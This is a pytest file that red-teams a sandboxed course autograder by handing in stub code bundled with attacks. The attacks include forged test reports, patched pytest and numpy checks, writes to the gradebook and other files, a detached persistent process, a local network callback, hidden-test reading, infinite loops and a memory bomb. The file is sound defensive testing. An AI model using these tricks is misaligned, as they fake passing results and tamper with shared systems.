"""The red team: every way of cheating we thought of scores no more than the stub.

Each attacker hands in module 02's stub plus code that tries to win marks without writing the
activations, to hurt another student, or to see the hidden checks. They are graded together
with honest students (the reference, and two correct implementations written differently from
it) in one `tito grade` run through the bubblewrap sandbox. Then:
- every attacker scores at most what the stub scores (0), the honest students full marks;
- no file outside the sandbox was written (marker paths are the host's), not even by a detached
  process that waits for the grading to end; the gradebook holds the expected rows only;
- the feedback contains no text of the hidden checks;
- an endless loop at import is cut off by the per-test limit, one that also ignores the alarm
  by the sandbox's wall limit, and a memory bomb fails where it stands.
"""

from __future__ import annotations

import csv
import socket
import sqlite3
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from grader.grading import grade_all
from grader.manifest import load_manifest
from grader.reports import export_grades, write_feedback
from grader.sandbox import sandbox_problem
from grader.stubs import stub_text
from tests.grader.conftest import COURSE_ROOT

MANIFEST = load_manifest(COURSE_ROOT)
MODULE = MANIFEST.find_module("02")
pytestmark = pytest.mark.skipif(bool(sandbox_problem()), reason=sandbox_problem() or "bwrap present")

SOLUTION = MANIFEST.solution_path(MODULE).read_text()
STUB = stub_text(SOLUTION)
FILE = Path(MODULE.file).name

# -- honest students ------------------------------------------------------------------------------

SIGMOID = """        e = np.exp(-np.abs(x.data))  # in (0, 1]: cannot overflow
        return Tensor(np.where(x.data >= 0, 1 / (1 + e), e / (1 + e)))"""
LOG_SOFTMAX = """        shifted = z - z.max(axis=self.dim, keepdims=True)
        return Tensor(shifted - np.log(np.exp(shifted).sum(axis=self.dim, keepdims=True)))"""


def alternative_solution() -> str:
    """Correct, but not the reference's formulas: sigmoid through tanh, log-softmax through logaddexp."""
    assert SIGMOID in SOLUTION and LOG_SOFTMAX in SOLUTION
    return (SOLUTION
            .replace(SIGMOID, "        return Tensor(0.5 * (1.0 + np.tanh(0.5 * x.data)))")
            .replace(LOG_SOFTMAX, "        return Tensor(z - np.logaddexp.reduce(z, axis=self.dim, keepdims=True))"))


# -- attackers: each is the stub plus the code below (MARK, HOST and PORT are filled in) ----------

ATTACKS = {
    # a fake grader module under a string-built name, for whatever imports it later
    "fake_grader_module": """
import sys, types
fake = types.ModuleType("grader." + "notebook")
fake.grade_this_notebook = lambda *args, **kwargs: 6.0
sys.modules["grader." + "notebook"] = fake
grade_this_notebook = fake.grade_this_notebook
grade_this_notebook("02", points=4.8)
""",
    # IPython tricks that fooled nbgrader's output check: no kernel runs any more
    "ipython_tricks": """
get_ipython().ast_node_interactivity = "none"
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda *a: None)
""",
    # a forged report: every test "passed" with made-up values, then leave before pytest can say otherwise
    "forged_report": """
import json, os, re, sys
report = next(a.split("=", 1)[1] for a in sys.argv if a.startswith("--tito-report="))
test_file = next(a for a in sys.argv if a.endswith(".py"))
names = re.findall(r"^def (test_\\w+)", open(test_file).read(), flags=re.M)
with open(report, "a") as out:
    out.write(json.dumps({"event": "collected", "count": len(names)}) + "\\n")
    for name in names:
        nodeid = test_file + "::" + name
        for seq in range(60):
            out.write(json.dumps({"event": "value", "test": nodeid, "seq": seq, "kind": "close",
                                  "value": {"array": {"dtype": "<f8", "shape": [], "bytes": "AAAAAAAA8D8="}}}) + "\\n")
        out.write(json.dumps({"event": "test", "nodeid": nodeid, "name": name, "outcome": "passed", "message": ""}) + "\\n")
os._exit(0)
""",
    # the checks themselves replaced: every test body becomes a no-op that "passes"
    "runtest_patched": """
import _pytest.python
_pytest.python.Function.runtest = lambda self: None
""",
    # the recording replaced: every value recorded is a guess from the test's own locals
    "recorder_forged": """
import inspect
import numpy as np
import grader.expect as expect
import grader.pytest_plugin as plugin

def guess(kind, value):
    frame = inspect.currentframe().f_back
    while frame is not None and not frame.f_code.co_name.startswith("test_"):
        frame = frame.f_back
    arrays = [v for v in (frame.f_locals.values() if frame else []) if isinstance(v, np.ndarray)]
    forged = {"close": arrays[0] if arrays else np.zeros(1), "equal": True, "that": np.zeros(1)}.get(kind, value)
    plugin._writer.emit({"event": "value", "test": plugin._writer.test, "seq": plugin._writer._next(),
                         "kind": kind, "value": __import__("grader.values").values.encode(forged)})

plugin._writer.record_value = guess
expect._sink = plugin._writer
import _pytest.python
_pytest.python.Function.runtest = lambda self: [guess(k, None) for k in ("close",) * 30]
""",
    # the oracle itself, to compute the answers: it is not in the sandbox
    "oracle_import": """
import torch
import torch.nn.functional as F
""",
    # numpy's comparisons patched to always agree
    "numpy_patched": """
import numpy as np
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
""",
    # reach the course, the gradebook and other students: write, and leave a detached writer behind
    "escape_and_persist": """
import importlib.util, os, pathlib, subprocess, sys
root = pathlib.Path(importlib.util.find_spec("grader").origin).parent.parent
for target in [root / "tests" / "checkpoints" / "test_02_activations.py", root / "tito.toml",
               pathlib.Path(MARK), pathlib.Path(HOST) / "gradebook.db"]:
    try:
        target.write_text("def test_nothing():\\n    pass\\n")
    except OSError:
        pass
subprocess.Popen([sys.executable, "-c",
                  f"import time, pathlib; time.sleep(4); pathlib.Path({MARK!r}).write_text('late')"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    # the network: report home to a server on the grading machine
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"pwned")
except OSError:
    pass
""",
    # read the hidden checks, wherever they might be, and show them as an error
    "hidden_leak": """
import pathlib
found = []
for base in [pathlib.Path("/course"), pathlib.Path(HOST), pathlib.Path(COURSE)]:
    for path in base.rglob("test_02_activations.py") if base.exists() else []:
        if "hidden" in str(path):
            found.append(path.read_text())
raise RuntimeError("LEAK " + " ".join(found))
""",
    # an endless loop at import
    "loop_at_import": """
while True:
    pass
""",
    # an endless loop that also silences the per-test alarm: only the wall limit stops it
    "loop_ignoring_alarm": """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
""",
    # a memory bomb at import
    "memory_bomb": """
hog = bytearray(64 * 2**30)
""",
}


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    scratch = tmp_path_factory.mktemp("redteam")
    submissions, course, mark = scratch / "submissions", scratch / "course", scratch / "MARK"
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(1)

    def listen() -> None:
        deadline = time.monotonic() + 600
        while time.monotonic() < deadline and not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except OSError:
                pass

    stop = threading.Event()
    threading.Thread(target=listen, daemon=True).start()

    def hand_in(student: str, text: str) -> None:
        (submissions / student).mkdir(parents=True)
        (submissions / student / FILE).write_text(text)

    hand_in("honest_reference", SOLUTION)
    hand_in("honest_alternative", alternative_solution())
    hand_in("stub", STUB)
    for name, attack in ATTACKS.items():
        filled = (attack.replace("MARK", repr(str(mark))).replace("HOST", repr(str(course)))
                  .replace("COURSE", repr(str(COURSE_ROOT))).replace("PORT", str(server.getsockname()[1])))
        hand_in(name, STUB + "\n\n" + filled)
    grading = replace(MANIFEST.grading, test_timeout_seconds=3, sandbox_wall_seconds=25, memory_mb=2048)
    manifest = replace(MANIFEST, grading=grading)
    started = time.monotonic()
    results = grade_all(manifest, submissions, course, workers=2)
    elapsed = time.monotonic() - started
    time.sleep(5)  # a detached writer would have woken up by now
    stop.set()
    export_grades(manifest, course, scratch / "grades.csv", "csv")
    with open(scratch / "grades.csv") as handle:
        scores = {row["student"]: float(row[MODULE.folder]) for row in csv.DictReader(handle)}
    feedback = write_feedback(manifest, course, scratch / "feedback")
    return {"scores": scores, "results": {r.student: r for r in results}, "mark": mark, "course": course,
            "received": received, "feedback": {p.stem: p.read_text() for p in feedback}, "elapsed": elapsed}


def test_honest_students_get_full_marks(graded):
    scores = graded["scores"]
    assert scores["honest_reference"] == MODULE.points, graded["feedback"]["honest_reference"]
    assert scores["honest_alternative"] == MODULE.points, graded["feedback"]["honest_alternative"]
    assert scores["stub"] == 0


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attack_scores_no_more_than_the_stub(graded, attack):
    assert graded["scores"][attack] <= graded["scores"]["stub"], graded["feedback"][attack]


def test_nothing_outside_the_sandbox_was_touched(graded):
    assert not graded["mark"].exists()  # not by the submission, not by its detached child
    assert not graded["received"]       # no connection left the sandbox
    assert "def test_nothing" not in MANIFEST.checkpoint_path(MODULE).read_text()
    with sqlite3.connect(graded["course"] / "gradebook.db") as db:
        assert db.execute("select count(*) from submitted_assignment").fetchone()[0] == 3 + len(ATTACKS)


def test_feedback_shows_no_hidden_check(graded):
    hidden = MANIFEST.hidden_path(MODULE).read_text()
    distinctive = [line.strip() for line in hidden.splitlines() if len(line.strip()) > 40]
    assert distinctive
    everything = "\n".join(graded["feedback"].values())
    assert not [line for line in distinctive if line in everything]
    assert "LEAK" in graded["feedback"]["hidden_leak"]  # the student's own error is shown, capped


def test_runaway_code_is_stopped_with_a_clear_reason(graded):
    assert "importing took longer than 13 s" in graded["feedback"]["loop_at_import"]
    assert "stopped after 25 s" in graded["feedback"]["loop_ignoring_alarm"]
    assert "memory" in graded["feedback"]["memory_bomb"].lower()
